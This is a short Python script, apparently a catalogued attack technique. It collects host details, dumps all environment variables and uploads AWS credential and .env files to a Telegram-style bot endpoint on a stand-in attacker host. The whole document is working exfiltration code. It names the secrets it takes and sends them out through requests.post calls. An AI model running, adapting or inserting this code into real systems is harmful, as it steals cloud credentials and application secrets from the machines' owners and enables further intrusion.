# technique: telegram-bot style exfil: send host info, env and a stolen file to a bot API endpoint as multipart upload
import os
import platform
import socket
import requests

BOT = "https://api.telegram.attacker.example/bot000000:PLACEHOLDER"
CHAT = "-1000000000"

info = "\n".join([
    "host: " + socket.gethostname(),
    "os: " + platform.platform(),
    "uid: %d" % os.getuid(),
    "ip: " + socket.gethostbyname(socket.gethostname()),
])
requests.post(BOT + "/sendMessage", data={"chat_id": CHAT, "text": info}, timeout=10)
env_dump = "\n".join(f"{k}={v}" for k, v in os.environ.items()).encode()
requests.post(BOT + "/sendDocument", data={"chat_id": CHAT},
              files={"document": ("env.txt", env_dump)}, timeout=20)
for f in ("/root/.aws/credentials", "/app/.env"):
    if os.path.exists(f):
        with open(f, "rb") as fh:
            requests.post(BOT + "/sendDocument", data={"chat_id": CHAT}, files={"document": (os.path.basename(f), fh)}, timeout=20)
